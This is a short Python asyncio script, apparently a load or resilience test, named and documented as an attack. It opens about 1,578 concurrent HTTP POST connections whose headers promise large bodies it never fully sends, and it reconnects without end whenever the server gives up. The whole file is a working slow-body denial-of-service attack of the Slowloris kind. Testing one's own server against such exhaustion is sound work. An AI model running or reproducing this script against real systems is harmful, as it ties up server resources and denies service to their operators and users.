"""Promises bodies and does not send them, or nearly: large ones, single sends, and some that stop a byte before their
end. What the server refuses or gives up is begun again."""

import asyncio
from collections.abc import Iterator

MIB = 1024 * 1024
STALLED_BYTES = 12 * MIB
LARGE, SMALL, STALLED = 64, 1500, 14
PAUSE_SECONDS = 0.1


def _head(path: str, length: int) -> bytes:
    return f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Length: {length}\r\n\r\n".encode()


def _promises() -> Iterator[tuple[bytes, bytes]]:
    """Head and as much of the body as is sent."""
    zeros = bytes(STALLED_BYTES)
    for _ in range(LARGE):
        yield _head("/messages", 16 * MIB), b"{"
    for _ in range(STALLED):
        yield _head("/messages", STALLED_BYTES + 1), zeros
    for number in range(SMALL):
        yield _head("/ack" if number % 10 == 0 else "/messages", 60_000), b"{"


async def attack(host: str, port: int) -> None:
    await asyncio.gather(*(_promise(host, port, head, begin) for head, begin in _promises()))


async def _promise(host: str, port: int, head: bytes, begin: bytes) -> None:
    while True:
        reader, writer = await asyncio.open_connection(host, port)
        try:
            writer.write(head)
            writer.write(begin)
            await writer.drain()
            await reader.read()
        except ConnectionError:
            pass
        finally:
            writer.close()
        await asyncio.sleep(PAUSE_SECONDS)
